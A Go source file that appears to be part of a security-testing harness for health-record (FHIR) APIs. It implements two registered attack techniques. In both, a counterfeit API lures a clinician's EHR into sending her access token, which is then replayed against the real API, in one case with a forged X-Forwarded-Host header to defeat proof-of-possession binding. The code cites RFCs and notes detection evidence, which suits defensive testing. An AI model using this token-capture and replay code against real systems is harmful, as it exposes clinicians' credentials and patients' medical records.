package attacker

import (
	"context"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
)

// counterfeit is an API of the thief's that looks like the real one from outside. It keeps what it is sent
// and has no records.
type counterfeit struct {
	base string
	mu   sync.Mutex
	got  []*http.Request
}

func newCounterfeit(g Ground) (*counterfeit, error) {
	real, err := url.Parse(g.Target().FHIRBase)
	if err != nil {
		return nil, err
	}
	c := &counterfeit{base: "https://" + g.Target().OwnHost + real.Path}
	g.Serve(g.Target().OwnHost, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		c.mu.Lock()
		defer c.mu.Unlock()
		c.got = append(c.got, r.Clone(r.Context()))
		w.WriteHeader(http.StatusServiceUnavailable)
	}))
	return c, nil
}

// collect has a clinician open a patient's record at the counterfeit, by way of a link into her own EHR, and
// returns what the EHR asked it for; ErrStopped if it asked for nothing.
func (c *counterfeit) collect(g Ground) ([]*http.Request, error) {
	link := g.Target().ClientRecord + stranger(g) + "?" + url.Values{"api": {c.base}}.Encode()
	if err := g.Lure(link); err != nil {
		return nil, err
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	asked := slices.DeleteFunc(slices.Clone(c.got), func(r *http.Request) bool { return r.Header.Get("Authorization") == "" })
	if len(asked) == 0 {
		return nil, ErrStopped
	}
	return asked, nil
}

// forward passes a request of the honest client's on to the real API. spoil has the last word.
func (c *counterfeit) forward(ctx context.Context, g Ground, asked *http.Request, spoil func(*http.Request)) error {
	base, err := url.Parse(c.base)
	if err != nil {
		return err
	}
	r := get(ctx, g.Target().FHIRBase+strings.TrimPrefix(asked.URL.RequestURI(), base.Path))
	for _, name := range []string{"Authorization", "Dpop"} {
		if v := asked.Header[name]; len(v) > 0 {
			r.Header[name] = slices.Clone(v)
		}
	}
	spoil(r)
	_, err = send(g, r)
	return err
}

var _ = register("T-06", Technique{
	Variant: "forwarded",
	Title:   "A counterfeit API passes on what it is sent",
	Story: "The thief sends a clinician a link into her own EHR. It opens a patient's record, at an API of the thief's choosing: his. Her EHR asks it for the " +
		"record, with her token, and he asks the real API with that.",
	Reads:    []string{"RFC 9700 s4.9.1", "RFC 9728 s7.3", "SMART App Launch 2.2, aud"},
	Evidence: "At the client, calls to an API it was never set up for; at the API, tokens from an unknown address, with proofs for another host.",
	Run: func(ctx context.Context, g Ground) error {
		c, err := newCounterfeit(g)
		if err != nil {
			return err
		}
		asked, err := c.collect(g)
		if err != nil {
			return err
		}
		return c.forward(ctx, g, asked[0], func(*http.Request) {})
	},
})

var _ = register("D-12", Technique{
	Variant: "forwarded-host",
	Title:   "An API that believes whoever says which host it is",
	Story: "As when a counterfeit API passes a request on, but the proof in it is for the thief's host. So he adds a header that proxies use to say under which name " +
		"they were called. An API that puts its own address together from it finds the proof in order.",
	Reads:    []string{"RFC 9449 s4.3-9", "RFC 9700 s4.13"},
	Evidence: "X-Forwarded-Host with a name that is none of the API's.",
	Against:  []Trait{ProofBound},
	Run: func(ctx context.Context, g Ground) error {
		c, err := newCounterfeit(g)
		if err != nil {
			return err
		}
		asked, err := c.collect(g)
		if err != nil {
			return err
		}
		return c.forward(ctx, g, asked[0], func(r *http.Request) {
			r.Header.Set("X-Forwarded-Host", g.Target().OwnHost)
		})
	},
})
